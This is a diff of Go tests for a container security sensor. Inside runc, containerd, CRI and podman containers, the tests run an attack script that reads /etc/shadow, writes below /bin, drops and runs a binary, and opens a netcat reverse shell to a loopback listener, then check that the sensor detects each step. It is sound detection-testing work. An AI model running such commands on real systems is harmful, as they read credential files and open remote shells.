@@ -5,37 +5,33 @@ package sensor
 import (
 	"fmt"
 	"net"
-	"strings"
 	"sync"
 	"testing"
 	"time"
 
 	"github.com/vigilsec/vigil/internal/event"
 	"github.com/vigilsec/vigil/internal/sensor/runctest"
+	"github.com/vigilsec/vigil/internal/sensor/runtimetest"
 )
 
-// TestShortLivedContainers runs, 20 times, a container started after the
-// sensor whose own command is an attack: half exit within tens of
-// milliseconds, the others after a second. Every event of every container's
-// processes must carry the container's id and runtime (none the host's),
-// and the reverse shell and netcat alerts must be raised for each.
-func TestShortLivedContainers(t *testing.T) {
-	h := sensorHarness(t)
+// shellListener accepts reverse shells on the host's loopback: each is
+// sent one command and exit. It returns the port.
+func shellListener(t *testing.T) int {
+	t.Helper()
 	ln, err := net.Listen("tcp", "127.0.0.1:0")
 	if err != nil {
 		t.Fatal(err)
 	}
-	defer ln.Close()
-	port := ln.Addr().(*net.TCPAddr).Port
 	var wg sync.WaitGroup
-	defer wg.Wait()
+	t.Cleanup(func() { ln.Close(); wg.Wait() })
+	wg.Add(1)
 	go func() {
+		defer wg.Done()
 		for {
 			c, err := ln.Accept()
 			if err != nil {
 				return
 			}
-			// The reverse shell runs one command and ends.
 			wg.Add(1)
 			go func() {
 				defer wg.Done()
@@ -51,65 +47,63 @@ func TestShortLivedContainers(t *testing.T) {
 			}()
 		}
 	}()
+	return ln.Addr().(*net.TCPAddr).Port
+}
 
-	stop := h.record()
-	const runs = 20
-	type run struct {
-		c     *runctest.Container
-		quick bool
+// attackScript is a container's own command: read /etc/shadow, write below
+// /bin, drop a program and run it, and a reverse shell to port; slow ones
+// first wait a second.
+func attackScript(port int, slow bool) []string {
+	script := fmt.Sprintf("cat /etc/shadow >/dev/null; echo x > /bin/evil; mkdir -p /tmp/d && cp /bin/busybox /tmp/d/b && chmod +x /tmp/d/b && /tmp/d/b true; nc 127.0.0.1 %d -e /bin/sh", port)
+	if slow {
+		script = "sleep 1; " + script
 	}
-	var all []run
-	for i := range runs {
-		id := fmt.Sprintf("%s-%d", runctest.UniqueID(t), i)
-		h.watch(id)
-		script := fmt.Sprintf("cat /etc/shadow >/dev/null; mkdir -p /tmp/d && cp /bin/busybox /tmp/d/b && chmod +x /tmp/d/b && /tmp/d/b true; nc 127.0.0.1 %d -e /bin/sh", port)
-		quick := i%2 == 0
-		if !quick {
-			script = "sleep 1; " + script
-		}
-		c := runctest.Start(t, runctest.Options{ID: id, Args: []string{"sh", "-c", script}})
-		all = append(all, run{c, quick})
-		if quick {
-			// Wait for it: the next one starts after it is gone.
-			if code := c.Wait(30 * time.Second); code != 0 {
-				t.Fatalf("container %s exited %d: %s", id, code, c.Stderr())
-			}
-		}
-	}
-	for _, r := range all {
-		if code := r.c.Wait(30 * time.Second); code != 0 {
-			t.Fatalf("container %s exited %d: %s", r.c.ID, code, r.c.Stderr())
-		}
-	}
-	for _, r := range all {
-		id := r.c.ID
+	return []string{"sh", "-c", script}
+}
+
+// attackRun is one container that ran attackScript.
+type attackRun struct {
+	id      string // the container id events must carry
+	pid     int    // its first process on the host
+	runtime string // the runtime events must name
+	slow    bool
+	image   string // the image reference events must carry ("" for none)
+	digest  string // and its digest
+}
+
+// checkAttacks checks every container's events (events: all the sensor
+// emitted meanwhile) and alerts: each event of the container's processes
+// carries its id, runtime and image, file paths are the container's, and
+// the reverse shell, netcat, write below /bin and drop-and-execute are
+// each detected.
+func (h *harness) checkAttacks(t *testing.T, runs []attackRun, events []*event.Event) {
+	t.Helper()
+	for _, r := range runs {
 		for _, title := range []string{
 			"Reverse Shell - Shell With a Network Socket as Standard Input or Output",
 			"Netcat or Socat Executing a Program for a Connection",
 		} {
-			a, err := h.alert(id, title, waitFor, nil)
+			a, err := h.alert(r.id, title, waitFor, nil)
 			if err != nil {
-				t.Errorf("container %s (quick %v): %v", id, r.quick, err)
+				t.Errorf("container %s (slow %v): %v", r.id, r.slow, err)
 				continue
 			}
-			if k := a.Events[len(a.Events)-1].Container; k.Runtime != "runc" {
-				t.Errorf("container %s: alert %q runtime %q", id, title, k.Runtime)
+			if k := a.Events[len(a.Events)-1].Container; k.Runtime != r.runtime {
+				t.Errorf("container %s: alert %q runtime %q, want %q", r.id, title, k.Runtime, r.runtime)
 			}
 		}
 	}
-	// Every event the sensor has handled by now: the containers' last
-	// records came before their alerts.
-	time.Sleep(200 * time.Millisecond)
-	events := stop()
-	for _, r := range all {
-		id := r.c.ID
-		evs := lineage(events, int64(r.c.PID()))
+	for _, r := range runs {
+		failed := t.Failed()
+		evs := lineage(events, int64(r.pid))
 		execs := map[string]bool{}
 		files := map[string]bool{}
 		for _, e := range evs {
 			k := e.Container
-			if k == nil || k.ContainerID != id || k.Runtime != "runc" {
-				t.Errorf("container %s (quick %v): event %s attributed to %+v", id, r.quick, event.AppendJSON(nil, e, false), k)
+			if k == nil || k.ContainerID != r.id || k.Runtime != r.runtime {
+				t.Errorf("container %s (slow %v): event %s attributed to %+v, want %s", r.id, r.slow, event.AppendJSON(nil, e, false), k, r.runtime)
+			} else if r.image != "" && (k.Image != r.image || k.ImageDigest != r.digest) {
+				t.Errorf("container %s: event %s image %q %q, want %q %q", r.id, e.EventName, k.Image, k.ImageDigest, r.image, r.digest)
 			}
 			if e.EventName == "execve" {
 				execs[e.Proc.Path] = true
@@ -118,22 +112,162 @@ func TestShortLivedContainers(t *testing.T) {
 				files[e.EventName+" "+e.File.Path] = true
 			}
 		}
+		// busybox's sh runs cat, echo, mkdir, cp and chmod itself.
+		if !execs["/bin/sh"] || !execs["/tmp/d/b"] || !execs["/bin/nc"] {
+			t.Errorf("container %s (slow %v, pid %d): execs %v", r.id, r.slow, r.pid, execs)
+		}
 		// Paths are the container's, however briefly it lived.
-		for _, f := range []string{"create /tmp/d/b", "chmod /tmp/d/b"} {
+		for _, f := range []string{"create /tmp/d/b", "chmod /tmp/d/b", "create /bin/evil"} {
 			if !files[f] {
-				t.Errorf("container %s (quick %v): no %s among %v", id, r.quick, f, files)
+				t.Errorf("container %s (slow %v): no %s among %v", r.id, r.slow, f, files)
 			}
 		}
-		// busybox's sh runs cat, mkdir, cp and chmod itself.
-		if !execs["/bin/sh"] || !execs["/tmp/d/b"] || !execs["/bin/nc"] {
-			var names []string
+		if !failed && t.Failed() {
 			for _, e := range evs {
-				names = append(names, e.EventName+" "+e.Proc.Path)
+				if e.EventName == "mount" || e.EventName == "umount" {
+					continue
+				}
+				line := fmt.Sprintf("%d %s %s", e.Proc.PID, e.EventName, e.Proc.CommandLine)
+				if e.File != nil {
+					line += " file=" + e.File.Path
+				}
+				if e.Network != nil {
+					line += fmt.Sprintf(" net=%s:%d", e.Network.DestIP, e.Network.DestPort)
+				}
+				t.Logf("container %s: %s", r.id, line)
 			}
-			t.Errorf("container %s (quick %v, pid %d): execs %v; events: %s", id, r.quick, r.c.PID(), execs, strings.Join(names, ", "))
 		}
 	}
 	if t.Failed() {
 		t.Log(h.dump())
 	}
+}
+
+// TestShortLivedContainers runs, 20 times, a runc container started after
+// the sensor whose own command is an attack: half exit within tens of
+// milliseconds, the others after a second. Every event of every
+// container's processes must carry the container's id and runtime (none
+// the host's), paths the container's, and the attacks must be detected.
+func TestShortLivedContainers(t *testing.T) {
+	h := sensorHarness(t)
+	port := shellListener(t)
+	stop := h.record()
+	var runs []attackRun
+	var cs []*runctest.Container
+	for i := range 20 {
+		id := fmt.Sprintf("%s-%d", runctest.UniqueID(t), i)
+		h.watch(id)
+		slow := i%2 == 1
+		c := runctest.Start(t, runctest.Options{ID: id, Args: attackScript(port, slow)})
+		runs = append(runs, attackRun{id: id, pid: c.PID(), runtime: "runc", slow: slow})
+		cs = append(cs, c)
+		if !slow {
+			// The next one starts after it is gone.
+			if code := c.Wait(30 * time.Second); code != 0 {
+				t.Fatalf("container %s exited %d: %s", id, code, c.Stderr())
+			}
+		}
+	}
+	for _, c := range cs {
+		if code := c.Wait(30 * time.Second); code != 0 {
+			t.Fatalf("container %s exited %d: %s", c.ID, code, c.Stderr())
+		}
+	}
+	h.settle()
+	h.checkAttacks(t, runs, stop())
+}
+
+// settle waits until the sensor has handled what the kernel reported so
+// far.
+func (h *harness) settle() {
+	time.Sleep(200 * time.Millisecond)
+}
+
+// TestContainerdContainers runs attacks in containers of containerd (ctr
+// run) started after the sensor, two exiting at once and two after a
+// second.
+func TestContainerdContainers(t *testing.T) {
+	ctrd := runtimetest.StartContainerd(t)
+	h := ownHarness(t, runtimeConfig(ctrd, nil))
+	port := shellListener(t)
+	stop := h.record()
+	var runs []attackRun
+	var tasks []*runtimetest.Task
+	for i := range 4 {
+		slow := i%2 == 1
+		id := fmt.Sprintf("ctr-%d-%d", time.Now().UnixNano()%1e6, i)
+		h.watch(id)
+		k := ctrd.Run(t, runtimetest.Options{ID: id, Args: attackScript(port, slow)})
+		runs = append(runs, attackRun{id: id, pid: k.PID, runtime: "containerd", slow: slow})
+		tasks = append(tasks, k)
+		if !slow {
+			if code := k.Wait(30 * time.Second); code != 0 {
+				t.Fatalf("container %s exited %d: %s", id, code, k.Stderr())
+			}
+		}
+	}
+	for _, k := range tasks {
+		if code := k.Wait(30 * time.Second); code != 0 {
+			t.Fatalf("container %s exited %d: %s", k.ID, code, k.Stderr())
+		}
+	}
+	h.settle()
+	h.checkAttacks(t, runs, stop())
+}
+
+// TestCRIContainers runs attacks in Kubernetes containers through
+// containerd's CRI plugin, in pods started after the sensor.
+func TestCRIContainers(t *testing.T) {
+	ctrd := runtimetest.StartContainerd(t)
+	h := ownHarness(t, runtimeConfig(ctrd, nil))
+	port := shellListener(t)
+	stop := h.record()
+	var runs []attackRun
+	for i := range 4 {
+		slow := i%2 == 1
+		pod := ctrd.RunPod(t, runtimetest.PodOptions{NoContainer: true})
+		c := pod.StartContainer(t, runtimetest.ContainerOptions{Name: fmt.Sprintf("attack-%d", i), Args: attackScript(port, slow)})
+		h.watch(c.ID)
+		runs = append(runs, attackRun{id: c.ID, pid: c.PID, runtime: "containerd", slow: slow})
+		if code := c.Wait(t, 30*time.Second); code != 0 {
+			t.Fatalf("container %s exited %d: %s", c.ID, code, c.Logs())
+		}
+	}
+	h.settle()
+	h.checkAttacks(t, runs, stop())
+}
+
+// TestPodmanContainers runs attacks in podman containers started after
+// the sensor.
+func TestPodmanContainers(t *testing.T) {
+	pm := runtimetest.StartPodman(t)
+	h := ownHarness(t, runtimeConfig(nil, pm))
+	port := shellListener(t)
+	stop := h.record()
+	var runs []attackRun
+	for i := range 4 {
+		slow := i%2 == 1
+		k := pm.Run(t, runtimetest.Options{Args: attackScript(port, slow)})
+		h.watch(k.ID)
+		runs = append(runs, attackRun{id: k.ID, pid: k.PID, runtime: "podman", slow: slow})
+		if code := k.Wait(30 * time.Second); code != 0 {
+			t.Fatalf("container %s exited %d: %s", k.ID, code, k.Stderr())
+		}
+	}
+	h.settle()
+	h.checkAttacks(t, runs, stop())
+}
+
+// runtimeConfig is a sensor configuration that asks the test's runtimes
+// (either may be nil) for metadata, not the system's.
+func runtimeConfig(ctrd *runtimetest.Containerd, pm *runtimetest.Podman) Config {
+	var cfg Config
+	cfg.Container.CRISockets = []string{}
+	cfg.Container.DockerSockets = []string{}
+	cfg.Container.RuncRoots = []string{}
+	if ctrd != nil {
+		cfg.Container.CRISockets = []string{ctrd.Socket}
+		cfg.Container.RuncRoots = []string{ctrd.RuncRoot + "/" + runtimetest.CRINamespace, ctrd.RuncRoot + "/" + runtimetest.CtrNamespace}
+	}
+	return cfg
 }
